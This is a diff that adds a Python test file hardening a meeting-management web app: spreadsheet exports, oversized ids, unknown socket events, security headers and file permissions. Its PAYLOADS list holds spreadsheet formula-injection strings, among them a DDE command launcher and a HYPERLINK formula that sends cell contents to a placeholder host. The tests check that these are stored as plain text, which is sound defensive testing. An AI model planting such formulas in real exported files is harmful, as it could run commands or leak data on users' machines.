@@ -1,0 +1,104 @@
+"""Hardening, point by point (issue 11): spreadsheet payloads stay text in the exported
+workbook; ids too large for the database are 404, not 500; an unknown live event is
+answered; every page carries the security headers; the instance folder is private."""
+
+from __future__ import annotations
+
+import io
+import os
+import stat
+from pathlib import Path
+
+import socketio
+from openpyxl import load_workbook
+
+from meeting import create_app
+from meeting.domain.roles import Role
+from meeting.exports import export
+from meeting.services import setup
+
+from ..conftest import REPO, make_meeting
+from .live import WAIT, staff_cookies
+
+PAYLOADS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?"&A2,"详情")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+)
+
+
+def test_spreadsheet_payloads_are_written_as_text_never_as_formulas(app) -> None:
+    meeting = make_meeting(representatives=1)
+    for i, payload in enumerate(PAYLOADS):
+        setup.add_member(meeting.id, f"{payload}{i}"[:64], Role.REPRESENTATIVE, "t")
+        setup.add_household(
+            meeting.id,
+            setup.HouseholdDetails(head_name=payload[:64], persons=1, address=payload),
+            "t",
+        )
+    book = load_workbook(io.BytesIO(export(meeting, "xlsx").data))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    found = [cell for cell in cells if isinstance(cell.value, str) and cell.value[:1] in "=+-@"]
+    assert len(found) >= 2 * len(PAYLOADS)  # names and addresses, on two sheets
+    assert all(cell.data_type == "s" for cell in found), [
+        (cell.coordinate, cell.value, cell.data_type) for cell in found if cell.data_type != "s"
+    ]
+
+
+def test_an_id_too_large_for_the_database_is_not_found(staff) -> None:
+    for path in (
+        "/staff/meetings/1000000000000000000000000000000",
+        "/staff/meetings/2147483648/audit",
+        "/host/99999999999999999999",
+    ):
+        assert staff.get(path).status_code == 404, path
+    assert staff.get("/staff/meetings/2147483647").status_code == 404  # the largest id: none
+
+
+def test_an_unknown_live_event_is_answered_at_once(live_server, demo) -> None:
+    client = socketio.Client(reconnection=False)
+    cookies = "; ".join(f"{k}={v}" for k, v in staff_cookies(live_server).items())
+    client.connect(
+        live_server,
+        auth={"meeting": demo.id, "view": "staff"},
+        transports=["websocket"],
+        headers={"Cookie": cookies},
+        wait_timeout=WAIT,
+    )
+    try:
+        answer = client.call("no_such_event", {"position": 1}, timeout=WAIT)
+        assert answer == {"ok": False, "error": "无法识别的请求。", "code": "unknown_event"}
+    finally:
+        client.disconnect()
+
+
+def test_every_page_carries_the_security_headers(client) -> None:
+    for path in ("/login", "/staff/meetings", "/j/not-a-card", "/static/css/app.css"):
+        response = client.get(path)
+        headers = response.headers
+        response.close()  # a static file is streamed: close it
+        assert headers["X-Frame-Options"] == "DENY", path
+        assert headers["X-Content-Type-Options"] == "nosniff", path
+        assert headers["Referrer-Policy"] == "no-referrer", path
+        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], path
+        assert "camera=()" in headers["Permissions-Policy"], path
+
+
+def test_the_instance_folder_and_its_files_are_private(tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.setenv("MEETING_CONFIG", str(REPO / "config" / "testing.toml"))
+    instance = tmp_path / "instance"
+    instance.mkdir(mode=0o755)
+    old = instance / "meeting.sqlite3"
+    old.write_bytes(b"")
+    old.chmod(0o644)  # a copy made before: narrowed at start-up
+    saved = os.umask(0o022)
+    try:
+        create_app(instance_path=str(instance))
+        fresh = instance / "made-after-start"
+        fresh.write_text("x")
+    finally:
+        os.umask(saved)
+    for path in (instance, instance / "secret_key", old, fresh):
+        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path
